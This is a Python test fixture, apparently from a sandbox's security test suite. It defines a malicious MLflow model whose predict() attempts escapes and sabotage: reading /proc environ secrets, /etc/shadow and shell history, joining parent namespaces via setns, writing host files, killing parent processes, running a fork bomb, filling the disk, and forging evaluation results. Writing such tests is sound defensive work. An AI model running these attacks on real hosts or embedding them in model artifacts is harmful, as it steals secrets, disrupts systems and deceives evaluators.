"""A model author's attacks on the gatekeeper, run from `predict()` inside the sandbox.

Pickled by value (cloudpickle), so the sandbox child needs nothing of this test package. Each
attack writes one line per attempt to stderr, `ATTACK <case>: blocked (...)` or
`ATTACK <case>: SUCCEEDED (...)`, then raises, so the run ends `error` and the test reads the
lines from the run's admin-only diagnostics. The tests also check the host for each effect
(files, sockets, processes, the database), so a model that lied about failing is still caught.
Modules are imported inside the functions: a module-level `os` would be pickled as a reference
to the module, which the security gate refuses before the sandbox is ever reached.
"""

from __future__ import annotations

from typing import Any

import mlflow.pyfunc


def _say(case: str, succeeded: bool, detail: str) -> None:
    import sys

    verdict = "SUCCEEDED" if succeeded else "blocked"
    sys.stderr.write(f"ATTACK {case}: {verdict} ({detail})\n")
    sys.stderr.flush()


def _try(case: str, what: str, action: Any) -> bool:
    try:
        result = action()
    except BaseException as exc:
        _say(case, False, f"{what}: {type(exc).__name__}: {exc}")
        return False
    _say(case, True, f"{what}: {str(result)[:200]}")
    return True


def _read(path: str) -> str:
    with open(path, "rb") as handle:
        return handle.read(4096).decode("latin-1")


def read_parent_files(p: dict[str, Any]) -> None:
    import os

    case = "read_parent_files"
    for path in (f"/proc/{os.getppid()}/environ", f"/proc/{p['worker_pid']}/environ"):
        _try(case, path, lambda path=path: _secret_in(_read(path), p))
    for path in (p["db_path"], p["policy_path"], "/etc/shadow", "/root/.bash_history"):
        _try(case, path, lambda path=path: _read(path))
    leaked = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if p["secret"] in _read(f"/proc/{pid}/environ"):
                    leaked.append(pid)
            except OSError:
                pass
    _say(case, bool(leaked), f"secret in /proc/*/environ of pids {leaked}")


def _secret_in(text: str, p: dict[str, Any]) -> str:
    if p["secret"] not in text:
        raise LookupError("readable, but no secret in it")
    return "the webhook secret"


def setns_into_parent(p: dict[str, Any]) -> None:
    import ctypes
    import os
    import socket

    case = "setns_into_parent"
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (str(os.getppid()), "1", str(p["worker_pid"])):
        for ns in ("net", "mnt", "pid", "user"):
            path = f"/proc/{pid}/ns/{ns}"

            def join(path: str = path) -> str:
                fd = os.open(path, os.O_RDONLY)
                if libc.setns(fd, 0) != 0:
                    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
                return "joined"

            _try(case, f"setns {path}", join)
    _try(case, "connect after setns", lambda: socket.create_connection(
        ("127.0.0.1", p["listener_port"]), timeout=2))  # fmt: skip


def connect_out(p: dict[str, Any]) -> None:
    import socket

    case = "connect_out"
    for port in (p["listener_port"], p["mlflow_port"], p["gatekeeper_port"]):
        _try(case, f"connect 127.0.0.1:{port}", lambda port=port: socket.create_connection(
            ("127.0.0.1", port), timeout=2))  # fmt: skip


def write_host_files(p: dict[str, Any]) -> None:
    import os
    import sys

    case = "write_host_files"

    def write(path: str) -> str:
        with open(path, "a") as handle:
            handle.write("owned by the model\n")
        return "written"

    _try(case, "open the database for writing", lambda: open(p["db_path"], "r+b"))
    for path in (
        os.path.join(p["data_dir"], "owned-by-model.txt"),
        os.path.join(p["source_root"], "service", "owned_by_model.py"),
        *(os.path.join(entry, "owned_by_model.py") for entry in sys.path if entry),
    ):
        _try(case, f"write {path}", lambda path=path: write(path))


def read_evaluation_labels(p: dict[str, Any]) -> None:
    _try("read_evaluation_labels", p["eval_path"], lambda: _read(p["eval_path"]))


def double_fork_and_survive(p: dict[str, Any]) -> None:
    import os

    case = "double_fork_and_survive"
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", p["survivor_tag"]])
        os._exit(0)
    os.waitpid(first, 0)
    _say(case, False, "forked a setsid grandchild; the host must not find it after the run")


def kill_the_parent(p: dict[str, Any]) -> None:
    import os
    import signal
    import time

    case = "kill_the_parent"

    def kill(pid: int) -> str:
        os.kill(pid, signal.SIGKILL)
        time.sleep(0.3)
        os.kill(pid, 0)  # still there: the signal had no effect
        raise ProcessLookupError(f"pid {pid} is still alive after SIGKILL")

    for pid in (p["worker_pid"], os.getppid()):
        _try(case, f"SIGKILL {pid}", lambda pid=pid: kill(pid))
    _try(case, "SIGKILL -1", lambda: os.kill(-1, signal.SIGKILL))


def fork_bomb(p: dict[str, Any]) -> None:
    import os
    import time

    children = 0
    try:
        while children < 5000:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            children += 1
    except OSError as exc:
        _say("fork_bomb", children >= 5000, f"fork refused after {children}: {exc}")
        return
    _say("fork_bomb", True, f"{children} processes")


def fill_the_disk(p: dict[str, Any]) -> None:
    import os

    case = "fill_the_disk"
    chunk = b"x" * (1024 * 1024)
    for directory in ("/tmp", "/", "/sandbox/model", p["data_dir"]):
        written = 0
        try:
            with open(os.path.join(directory, "fill"), "wb") as handle:
                while written < 4 * 1024**3:
                    handle.write(chunk)
                    handle.flush()
                    written += len(chunk)
        except OSError as exc:
            _say(case, False, f"{directory}: stopped after {written >> 20} MiB: {exc}")
            continue
        _say(case, True, f"{directory}: wrote {written >> 20} MiB")


def allocate_20_gib(p: dict[str, Any]) -> None:
    try:
        hog = bytearray(20 * 1024**3)
    except MemoryError:
        _say("allocate_20_gib", False, "MemoryError")
        raise
    _say("allocate_20_gib", True, f"{len(hog)} bytes")


def forge_evidence(p: dict[str, Any]) -> None:
    """Write a forged final answer on every pipe this process holds, then leave."""
    import json
    import os
    import stat
    import sys

    forged = {
        "event": "result",
        "t": 0,
        "predictions": [0] * p["rows"],
        "scores": None,
        "classes": None,
        "evidence": {"sandbox": "FORGED", "namespaces": {"net": "FORGED"}},
        "namespaces": {"net": "FORGED"},
        "sandbox": "FORGED",
    }
    line = (json.dumps(forged) + "\n").encode()
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, line)
        except OSError:
            pass
    sys.stderr.write("ATTACK forge_evidence: wrote a forged answer\n")
    sys.stderr.flush()
    os._exit(0)


def print_rows(p: dict[str, Any], rows: Any) -> None:
    import os
    import sys

    # built at run time: the code's own constants are shown by the security gate's findings
    sys.stderr.write("".join(("ROW", "DUMP", "\n")) + rows.to_csv(index=False))
    sys.stderr.flush()
    os._exit(1)


ATTACKS = {
    "read_parent_files": read_parent_files,
    "setns_into_parent": setns_into_parent,
    "connect_out": connect_out,
    "write_host_files": write_host_files,
    "read_evaluation_labels": read_evaluation_labels,
    "double_fork_and_survive": double_fork_and_survive,
    "kill_the_parent": kill_the_parent,
    "fork_bomb": fork_bomb,
    "fill_the_disk": fill_the_disk,
    "allocate_20_gib": allocate_20_gib,
    "forge_evidence": forge_evidence,
}


class Attacker(mlflow.pyfunc.PythonModel):
    def __init__(self, case: str, params: dict[str, Any]) -> None:
        self.case = case
        self.params = params

    def predict(self, context: Any, model_input: Any, params: Any = None) -> Any:
        if self.case == "print_rows":
            print_rows(self.params, model_input)
        ATTACKS[self.case]({**self.params, "rows": len(model_input)})
        raise RuntimeError(f"attack {self.case} finished")
